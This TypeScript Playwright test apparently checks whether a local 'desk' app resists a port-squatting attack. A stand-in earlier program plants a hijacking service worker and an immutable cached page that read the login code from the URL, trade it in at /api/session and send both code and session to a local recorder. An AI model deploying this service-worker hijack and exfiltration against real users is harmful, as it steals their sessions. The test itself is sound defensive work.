import { type IncomingMessage, type ServerResponse, createServer } from 'node:http';
import path from 'node:path';

import { type BrowserContext, chromium } from '@playwright/test';

import { chromiumFlags, findHeadlessChromium } from '../../support/chromium.ts';
import { startDesk } from '../../support/desk.ts';
import { until } from '../waiting.ts';
import { type Answers, noteAnswers } from './answers.ts';
import { headlessOnPath } from './appWindow.ts';
import type { RowsResult } from './wireRows.ts';

/** What a program that had the port before the desk can leave in a browser profile. */
const PLANTS = ['a service worker', 'an immutable page in the cache'] as const;
type Plant = (typeof PLANTS)[number];

type Listening = { readonly port: number; readonly close: () => Promise<void> };
type Recorder = Listening & { readonly heard: () => readonly string[] };

/** With `--port`, an earlier program of that port has planted its page in the operator's browser: it gets neither code nor session. */
export async function tryPlantedRows(dir: string): Promise<RowsResult> {
  const executablePath = findHeadlessChromium();
  if (executablePath === null) throw new Error('No Chromium was found');
  const recorder = await startRecorder();
  const browser = await chromium.launch({ executablePath, args: [...chromiumFlags()] });
  try {
    const earlier = await startEarlierProgram(recorder.port);
    const profiles = new Map<Plant, BrowserContext>();
    for (const plant of PLANTS) {
      const profile = await browser.newContext();
      await plantIn(profile, plant, earlier.port);
      profiles.set(plant, profile);
    }
    await earlier.close();
    // Without a trap that works the rows would prove nothing.
    for (const [plant, profile] of profiles) {
      await springTrap(profile, plant, earlier.port, recorder);
    }
    const wrong = await openDeskIn(profiles, earlier.port, recorder, dir);
    return { rows: PLANTS.length + 1, wrong };
  } finally {
    await browser.close();
    await recorder.close();
  }
}

/** At both names that a program of this machine can have known. */
async function plantIn(profile: BrowserContext, plant: Plant, port: number): Promise<void> {
  const page = await profile.newPage();
  for (const name of ['127.0.0.1', 'localhost']) {
    const at = plant === 'a service worker' ? '/register' : '/';
    await page.goto(`http://${name}:${port}${at}`);
    await page.waitForFunction(() => document.title === 'planted');
  }
  await page.close();
}

/** The program has ended, and still its page opens and sends on what it is told. Throws where it does not. */
async function springTrap(
  profile: BrowserContext,
  plant: Plant,
  port: number,
  recorder: Recorder,
): Promise<void> {
  const page = await profile.newPage();
  for (const name of ['127.0.0.1', 'localhost']) {
    const code = `${PLANTS.indexOf(plant)}-${name}`;
    await page.goto(`http://${name}:${port}/#code=${code}`);
    await until(`${plant} at ${name} was told the code`, () =>
      recorder.heard().some((text) => text.includes(code)),
    );
  }
  await page.close();
}

async function openDeskIn(
  profiles: ReadonlyMap<Plant, BrowserContext>,
  port: number,
  recorder: Recorder,
  dir: string,
): Promise<readonly string[]> {
  const answers = noteAnswers(dir);
  const PATH = [headlessOnPath(dir), process.env['PATH']].join(path.delimiter);
  const env = { ...answers.env, DISPLAY: ':0', PATH };
  const desk = await startDesk({ port, opens: true, env });
  try {
    const wrong: string[] = [];
    const { host } = new URL(desk.url());
    if (!(await hasOpenedItself(host, answers))) wrong.push('the app window opens elsewhere');
    for (const [plant, profile] of profiles) {
      const url = await desk.pressEnter();
      const before = recorder.heard().length;
      const page = await profile.newPage();
      await page.goto(url);
      const own = page.getByRole('heading', { name: 'New request', level: 1 });
      const isOwn = await own.waitFor({ timeout: 10_000 }).then(
        () => true,
        () => false,
      );
      const stolen = recorder.heard().slice(before);
      if (stolen.length > 0) wrong.push(`${plant}: it got ${stolen.join(' and ')}`);
      if (!isOwn) wrong.push(`${plant}: what opens at ${url} is not the desk`);
    }
    return wrong;
  } finally {
    await desk.stop();
  }
}

/** With a fixed port, too, the desk opens its own window, in a profile of its own, at the address that it printed. */
async function hasOpenedItself(host: string, answers: Answers): Promise<boolean> {
  let opened: string | null = null;
  await until('the app window got in', () => {
    const session = answers.take().find(({ url }) => url === '/api/session');
    opened ??= session?.status === 200 ? session.host : null;
    return opened !== null;
  });
  return opened === host;
}

/** Hears of the planted page whatever it gets hold of, at a port of its own. */
async function startRecorder(): Promise<Recorder> {
  const heard: string[] = [];
  const server = await listening((request, response) => {
    heard.push(decodeURIComponent(request.url ?? ''));
    response.writeHead(204).end();
  });
  return { ...server, heard: () => heard };
}

/** The program that had the port before the desk. */
function startEarlierProgram(recorderPort: number): Promise<Listening> {
  const recorder = `http://127.0.0.1:${recorderPort}`;
  return listening((request, response) => {
    const isWorker = request.url === '/worker.js';
    response.writeHead(200, {
      'content-type': isWorker ? 'text/javascript' : 'text/html',
      'cache-control': isWorker ? 'no-store' : 'public, max-age=31536000, immutable',
    });
    if (isWorker) response.end(workerScript(recorder));
    else response.end(request.url === '/register' ? REGISTERING_PAGE : thievingPage(recorder));
  });
}

const REGISTERING_PAGE = `<!doctype html><title>planting</title><script>
navigator.serviceWorker.register('/worker.js', { scope: '/' })
  .then(() => navigator.serviceWorker.ready)
  .then(() => { document.title = 'planted'; });
</script>`;

/** Passes the code on, then trades it in for a session and passes that on. */
function thievingPage(recorder: string): string {
  return `<!doctype html><title>planted</title><script>
const tell = (what) => fetch('${recorder}/' + encodeURIComponent(what), { mode: 'no-cors' });
const code = location.hash.slice('#code='.length);
if (code !== '') {
  tell('code ' + code);
  fetch('/api/session', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ code }),
  }).then((answer) => answer.text()).then((text) => tell('session ' + text), () => {});
}
</script>`;
}

/** Whatever page is asked for within its scope, it answers itself. */
function workerScript(recorder: string): string {
  const page = JSON.stringify(thievingPage(recorder));
  return `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  if (event.request.mode !== 'navigate') return;
  event.respondWith(new Response(${page}, { headers: { 'content-type': 'text/html' } }));
});`;
}

async function listening(
  answer: (request: IncomingMessage, response: ServerResponse) => void,
): Promise<Listening> {
  const server = createServer(answer);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('It is not listening');
  return {
    port: address.port,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}
